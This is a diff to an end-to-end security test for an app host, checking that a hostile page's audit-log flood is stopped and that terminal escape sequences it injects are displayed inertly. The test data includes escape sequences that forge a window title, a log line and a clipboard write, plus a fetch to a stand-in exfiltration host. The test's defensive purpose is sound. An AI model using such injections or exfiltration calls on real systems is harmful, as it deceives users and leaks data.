@@ -9,6 +9,7 @@ still verify; an app beside it keeps answering.
 
 from __future__ import annotations
 
+import json
 import subprocess
 import sys
 from pathlib import Path
@@ -18,6 +19,7 @@ import pytest
 
 from superapp.paths import Paths
 from tests.attacks.hostile import audit_events, call, make_app, wait_for_audit
+from tests.audit.test_audit_terminal import parse_line, render_on_terminal
 from tests.e2e.harness import HostProcess
 
 pytestmark = pytest.mark.e2e
@@ -25,6 +27,9 @@ pytestmark = pytest.mark.e2e
 HOSTILE = "com.attacker.auditflood"
 BYSTANDER = "com.example.bystander"
 SECRET = "https://exfil.evil.test/steal?note=secret"
+#: Parameter names the dispatcher quotes (40 characters each) in its INVALID_PARAMS reason: a
+#: window title and a line forged for another app, a clipboard write and a bell.
+FORGE = ["\x1b]0;pwned\x07\n00:00 com.victim.bank", "\x1b]52;c;Zm9v\x07\x07"]
 
 POLICY = """
 [monitor]
@@ -44,6 +49,7 @@ per_second = 100000
 SCRIPT = f"""
 window.addEventListener('load', () => {{
   callNative('storage.get', {{key: 'diary'}}).catch(() => {{}});
+  callNative('app.info', {{[{json.dumps(FORGE[0])}]: 1, [{json.dumps(FORGE[1])}]: 2}}).catch(() => {{}});
   fetch({SECRET!r}).catch(() => {{}});
   let n = 0;
   setTimeout(() => setInterval(() => {{
@@ -104,6 +110,20 @@ def test_page_flooding_the_audit_log_is_stopped_and_cannot_flush_its_earlier_eve
         env=host_env, capture_output=True, text=True, timeout=60, check=False,
     )  # fmt: skip
     assert verify.returncode == 0, verify.stderr
+    # The page's text reached the log, and `superapp audit` shows it inertly.
+    wait_for_audit(
+        superapp_home, lambda e: all(f in e["event"]["reason"] for f in FORGE),
+        action="bridge.denied", app_id=HOSTILE, timeout=1,
+    )  # fmt: skip
+    shown = subprocess.run(
+        [sys.executable, "-m", "superapp", "audit", "--app", HOSTILE],
+        env=host_env, capture_output=True, text=True, timeout=60, check=True,
+    ).stdout  # fmt: skip
+    screen, recorder = render_on_terminal(shown)
+    assert recorder.actions == [] and screen.title == ""
+    rows = [row for row in screen.display if row.strip()]
+    assert len(rows) == shown.count("\n") == len(audit_events(superapp_home, app_id=HOSTILE))
+    assert all(parse_line(row)[2] == HOSTILE for row in rows)
     size = sum(p.stat().st_size for p in superapp_home.audit_log.parent.glob("audit.jsonl*"))
     print(
         f"\nwindow flood: {len(flood)} flood entries written, {suppressed} summarised; "
